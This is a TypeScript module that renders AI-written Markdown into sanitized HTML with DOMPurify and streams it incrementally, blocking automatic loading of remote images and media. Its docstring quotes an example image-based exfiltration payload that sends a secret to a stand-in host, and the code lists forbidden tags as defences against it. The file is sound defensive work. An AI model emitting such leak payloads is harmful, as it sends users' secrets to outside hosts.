/**
 * Markdown → safe HTML for text parts: markdown-it renders (raw HTML in the source is
 * escaped, not passed through), then DOMPurify sanitizes what comes out, so nothing a
 * model writes can execute. Links open in a new tab. `enhanceCodeBlocks` adds a copy
 * button to every code block (built with DOM calls, after sanitizing).
 *
 * Nothing a model writes makes the browser fetch anything by itself either (a remote image
 * `![x](https://host/leak?d=secret)` would otherwise report to `host` the moment it shows).
 * The sanitizer, not the markdown renderer, enforces this, so it holds for any HTML that
 * reaches it (markdown-it only ever emits `<img>` and table `style`s of the kinds below;
 * the rest is defence in depth should raw HTML ever be let through):
 *
 * - `<img>` (and `<image>`, which the HTML parser turns into `<img>`), `<input type=image>`,
 *   `<video>`, `<audio>`: replaced by a link to their URL (`a.think-media-link`, a 🖼/▶
 *   label with the alt text); the click is the user's. Inside another link: by its label.
 * - Inline images stay: an `<img>` whose `src` is a `data:image/(png|gif|jpeg|webp|avif|bmp)`
 *   URI carries its bytes and is decoded locally, with no request (these are the data
 *   images markdown-it lets through, plus avif/bmp). `data:image/svg+xml` does not stay:
 *   SVG is a document format that can reference other URLs.
 * - `src` is dropped everywhere else; `srcset`, `imagesrcset`, `poster`, `background`,
 *   `lowsrc`, `dynsrc`, `longdesc` and `ping` are dropped everywhere.
 * - `<picture>` is unwrapped (its `<img>` becomes a link), `<source>` and `<track>`
 *   dropped; `<link>`, `<style>` (with its text), `<meta>`, `<base>`, frames, `<object>`,
 *   `<embed>`, `<portal>`, `<fencedframe>` and `<form>` dropped (a form posts where it says when
 *   clicked; `action` and `formaction` go too).
 * - SVG and MathML are not allowed at all (`USE_PROFILES: {html: true}`), which removes
 *   `<svg><image>`, `<feImage>`, `<use>` and `fill="url(...)"`-style references.
 * - A `style` attribute stays only without `(` and `\`: no `(` means no CSS function, so
 *   no `url()`, `image-set()` or `src()` (and no escape can spell one). markdown-it's
 *   table alignment (`style="text-align:right"`) passes.
 */
import DOMPurify, { type Config } from "dompurify";
import MarkdownIt from "markdown-it";
import type { Growth } from "./accumulate";
import { copyText } from "./clipboard";

const md = new MarkdownIt({ html: false, linkify: true, breaks: false });

/** Our own DOMPurify instance, so the hooks below touch no one else's sanitizing. */
const purify = DOMPurify();

/** Images that are their own bytes: decoded locally, never fetched. */
const INLINE_IMAGE = /^data:image\/(?:png|gif|jpeg|webp|avif|bmp)[;,]/i;

const CONFIG: Config = {
  USE_PROFILES: { html: true },
  ADD_ATTR: ["target"],
  FORBID_TAGS: [
    "picture", "source", "track", "link", "style", "meta", "base", "iframe", "frame", "frameset",
    "object", "embed", "portal", "fencedframe", "form",
  ],
  FORBID_ATTR: ["srcset", "imagesrcset", "poster", "background", "lowsrc", "dynsrc", "longdesc", "ping", "action",
    "formaction"],
};

function isInlineImage(url: string): boolean {
  return INLINE_IMAGE.test(url.trim());
}

/** The URL a media element would load (its `src`, else its first `<source>`, `srcset` or poster). */
function mediaUrl(el: Element): string {
  const first = (srcset: string | null) => (srcset ?? "").trim().split(/[\s,]+/)[0] ?? "";
  return (
    el.getAttribute("src")?.trim() ||
    el.querySelector("source[src]")?.getAttribute("src")?.trim() ||
    first(el.getAttribute("srcset")) ||
    first(el.querySelector("source[srcset]")?.getAttribute("srcset") ?? null) ||
    el.getAttribute("poster")?.trim() ||
    ""
  );
}

/** Only http(s) links (relative ones resolve against the page, an http(s) origin). */
function isWebUrl(url: string): boolean {
  try {
    return /^https?:$/.test(new URL(url, document.baseURI).protocol);
  } catch {
    return false;
  }
}

/** Put a link to `el`'s URL in its place (or, inside a link, just its label). */
function replaceWithLink(el: Element, kind: "image" | "video" | "audio"): void {
  const doc = el.ownerDocument;
  const url = mediaUrl(el);
  const name = el.getAttribute("alt")?.trim() || el.getAttribute("title")?.trim() || url || kind;
  const label = `${kind === "image" ? "🖼" : "▶"} ${name}`;
  let replacement: Element | Text;
  if (el.parentElement?.closest("a") || !isWebUrl(url)) {
    replacement = doc.createTextNode(label);
  } else {
    const a = doc.createElement("a");
    a.setAttribute("href", url);
    a.setAttribute("title", `${kind}: ${url} (not loaded)`);
    a.setAttribute("class", "think-media-link");
    a.setAttribute("target", "_blank");
    a.setAttribute("rel", "noopener noreferrer");
    a.textContent = label;
    replacement = a;
  }
  el.replaceWith(replacement); // DOMPurify sees the node detached and moves on
}

purify.addHook("uponSanitizeElement", (node, data) => {
  if (node.nodeType !== 1) return;
  const el = node as Element;
  const tag = data.tagName;
  if (tag === "img" && !isInlineImage(el.getAttribute("src") ?? "")) replaceWithLink(el, "image");
  else if (tag === "input" && el.getAttribute("type")?.trim().toLowerCase() === "image") replaceWithLink(el, "image");
  else if (tag === "video" || tag === "audio") replaceWithLink(el, tag);
});

purify.addHook("uponSanitizeAttribute", (node, data) => {
  const name = data.attrName;
  if (name === "src") {
    data.keepAttr = node.nodeName === "IMG" && isInlineImage(data.attrValue);
  } else if (name === "style") {
    data.keepAttr = !/[(\\]/.test(data.attrValue);
  }
});

purify.addHook("afterSanitizeAttributes", (node) => {
  if (node.nodeName === "A") {
    node.setAttribute("target", "_blank");
    node.setAttribute("rel", "noopener noreferrer");
  }
});

/** Sanitized HTML: nothing in it runs, and nothing in it loads by itself (see the module docstring). */
export function sanitizeHtml(html: string): string {
  return purify.sanitize(html, CONFIG) as string;
}

/** Sanitized HTML for `text` read as Markdown. */
export function renderMarkdown(text: string): string {
  return sanitizeHtml(md.render(text));
}

/** Give each `<pre><code>` in `root` a Copy button. */
export function enhanceCodeBlocks(root: HTMLElement): void {
  root.querySelectorAll("pre").forEach((pre) => {
    const code = pre.querySelector("code") ?? pre;
    const wrap = document.createElement("div");
    wrap.className = "think-code";
    const button = document.createElement("button");
    button.className = "think-code-copy";
    button.textContent = "Copy";
    button.title = "Copy code";
    button.addEventListener("click", () => {
      void copyText(code.textContent ?? "").then((ok) => {
        button.textContent = ok ? "Copied" : "Copy failed";
        setTimeout(() => (button.textContent = "Copy"), 1500);
      });
    });
    pre.replaceWith(wrap);
    wrap.append(button, pre);
  });
}

/** Top-level nodes per `div.think-chunk`: a long text's blocks are grouped in chunks of this many
 * (CSS `content-visibility: auto`), so the browser skips the layout of the chunks off screen. */
export const CHUNK = 64;

/** `el` filled with `nodes`: every full group of `CHUNK` nodes in a `div.think-chunk`, the rest loose. */
export function fillBlocks(el: HTMLElement, nodes: readonly Node[]): HTMLElement[] {
  el.replaceChildren();
  return appendBlocks(el, nodes);
}

/** Append `nodes` to `el`, grouped as `fillBlocks` does; returns the chunks made. */
function appendBlocks(el: HTMLElement, nodes: readonly Node[]): HTMLElement[] {
  const chunks: HTMLElement[] = [];
  let at = 0;
  for (; at + CHUNK <= nodes.length; at += CHUNK) {
    const chunk = document.createElement("div");
    chunk.className = "think-chunk";
    chunk.append(...nodes.slice(at, at + CHUNK));
    el.append(chunk);
    chunks.push(chunk);
  }
  el.append(...nodes.slice(at));
  return chunks;
}

/** Sanitized HTML for `text` read as Markdown, as `el`'s children: code blocks enhanced, blocks grouped
 * in chunks (`fillBlocks`). What `StreamingMarkdown.renderInto` ends with for the same text. */
export function renderMarkdownInto(el: HTMLElement, text: string): void {
  fillBlocks(el, fragment(text));
}

/** One step of a stream: the blocks finished by it, the new tail, and whether it started over. */
interface Step {
  added: Node[];
  tail: Node[];
  reset: boolean;
}

/**
 * Incremental rendering of a growing Markdown text (a reply being streamed): the finished
 * top-level blocks are rendered once, only the open tail block is rendered again per frame.
 *
 * A block is finished when another top-level block starts after it (markdown-it's own block
 * map of the not-yet-finished part of the text decides): later text cannot change it in
 * CommonMark, with one exception, link reference definitions (`[x]: url`), which reach back
 * to every earlier block: every block is rendered knowing the definitions of the whole text so
 * far (markdown-it's `env.references`, the first definition of a label wins), and when those
 * change (a new label, or a definition still being streamed) the finished blocks are rendered
 * again, once per change. The result
 * is the same DOM as `renderMarkdownInto` of the whole text (tests: js/test/markdown-stream.test.ts).
 * The finished blocks' nodes are reused and stay where they are, so a frame costs the tail, not
 * the message: only the unfinished part of the text is parsed, only the tail's nodes are replaced.
 */
export class StreamingMarkdown {
  private source = "";
  private nodes: Node[] = [];
  /** The link reference definitions of `source` (markdown-it's `env.references`), and those the
   * finished blocks were rendered with (the whole text's, as JSON). */
  private refs: References = {};
  private renderedWith = "{}";
  private host?: HTMLElement;
  private tail: Node[] = [];
  /** Finished nodes inside chunks for good (a multiple of CHUNK); chunks holding tail nodes are `open`. */
  private placed = 0;
  private open: HTMLElement[] = [];
  /** The last text's stream, its length, and its part after `source` (see `advance`). */
  private stream?: object;
  private seen = 0;
  private rest = "";

  /**
   * Render `text` into `el` in place: the finished blocks' nodes stay where they are (no new
   * layout for them), the previous tail's nodes are replaced by the new finished blocks and tail.
   */
  renderInto(el: HTMLElement, text: string, growth?: Growth): void {
    const step = this.advance(text, growth);
    if (step.reset || this.host !== el) {
      this.host = el;
      this.placed = 0;
      this.open = [];
      this.group(fillBlocks(el, [...this.nodes, ...step.tail]));
    } else {
      for (const node of this.tail) node.parentNode?.removeChild(node);
      for (const chunk of this.open) chunk.replaceWith(...Array.from(chunk.childNodes));
      this.open = [];
      const loose = this.nodes.length - step.added.length - this.placed;
      if (loose + step.added.length + step.tail.length < CHUNK) {
        el.append(...step.added, ...step.tail); // the usual frame: the loose nodes stay in place
      } else {
        const nodes = this.nodes.slice(this.placed).concat(step.tail);
        this.group(appendBlocks(el, nodes));
      }
    }
    this.tail = step.tail;
  }

  /** Count the chunks made from the not-yet-placed nodes: chunks of finished nodes only are placed for good. */
  private group(chunks: HTMLElement[]): void {
    for (const chunk of chunks) {
      if (this.open.length === 0 && this.placed + CHUNK <= this.nodes.length) this.placed += CHUNK;
      else this.open.push(chunk);
    }
  }

  /** Nodes for `text` (the finished blocks' cached nodes, then the tail freshly rendered). */
  render(text: string): Node[] {
    const step = this.advance(text);
    return [...this.nodes, ...step.tail];
  }

  /**
   * Move on to `text`: render what it finished and its tail (only the unfinished part is parsed).
   * `growth`: how the text grew since the last frame (js/src/accumulate.ts `growthOf`); when it
   * grew from the text rendered last, only what it added is read (reading the whole text of a
   * long reply copies all of it, a millisecond and more per frame at 1 MB).
   */
  private advance(text: string, growth?: Growth): Step {
    const grown = growth !== undefined && growth.stream === this.stream && growth.base === this.seen;
    this.stream = growth?.stream;
    this.seen = text.length;
    let reset = false;
    let rest: string;
    if (grown) {
      rest = this.rest + growth.added;
    } else {
      if (!text.startsWith(this.source)) {
        this.reset();
        reset = true;
      }
      rest = text.slice(this.source.length);
    }
    const { split, references } = scan(rest, this.refs);
    const definitions = JSON.stringify(references);
    if (definitions !== this.renderedWith && this.nodes.length > 0) {
      // the finished blocks were rendered with other definitions: render them again, once
      this.reset();
      const step = this.advance(text);
      this.stream = growth?.stream; // the next frame can still take its growth
      return { ...step, reset: true };
    }
    this.renderedWith = definitions;
    const finished = rest.slice(0, split);
    const added = split > 0 ? fragment(finished, references) : [];
    if (split > 0) {
      for (const node of added) this.nodes.push(node);
      this.source += finished;
      if (definitions !== "{}") this.refs = definitionsOf(finished, this.refs);
    }
    this.rest = rest.slice(split);
    return { added, tail: fragment(this.rest, references), reset };
  }

  /** Characters of the text whose blocks are rendered once and kept. */
  get finished(): number {
    return this.source.length;
  }

  reset(): void {
    this.source = "";
    this.rest = "";
    this.nodes = [];
    this.refs = {};
    this.renderedWith = "{}";
  }
}

type References = Record<string, unknown>;

/**
 * Where the finished top-level blocks of `text` end (at a line start; 0: none finished yet), and
 * the link reference definitions of an earlier text (`known`) and `text` (markdown-it's parse
 * collects them; the first of a label wins).
 */
function scan(text: string, known: References): { split: number; references: References } {
  if (!text.includes("\n") && !text.includes("]:")) return { split: 0, references: known };
  const env = { references: { ...known } };
  const tokens = md.parse(text, env);
  const starts = tokens.filter((t) => t.level === 0 && t.nesting !== -1 && t.map).map((t) => (t.map as [number, number])[0]);
  const lastStart = starts.length > 1 ? starts[starts.length - 1] : 0;
  if (!lastStart) return { split: 0, references: env.references };
  let at = 0;
  for (let line = 0; line < lastStart; line++) at = text.indexOf("\n", at) + 1;
  return { split: at, references: env.references };
}

/** `known` with the link reference definitions of `text` added (the first of a label wins). */
function definitionsOf(text: string, known: References): References {
  const env = { references: { ...known } };
  md.parse(text, env);
  return env.references;
}

/** Sanitized, enhanced DOM nodes for a Markdown text rendered on its own, with the link reference
 * definitions `references` (of the text around it) known. */
function fragment(text: string, references?: References): Node[] {
  if (!text) return [];
  const holder = document.createElement("div");
  holder.innerHTML = sanitizeHtml(md.render(text, references ? { references: { ...references } } : {}));
  enhanceCodeBlocks(holder);
  return Array.from(holder.childNodes);
}
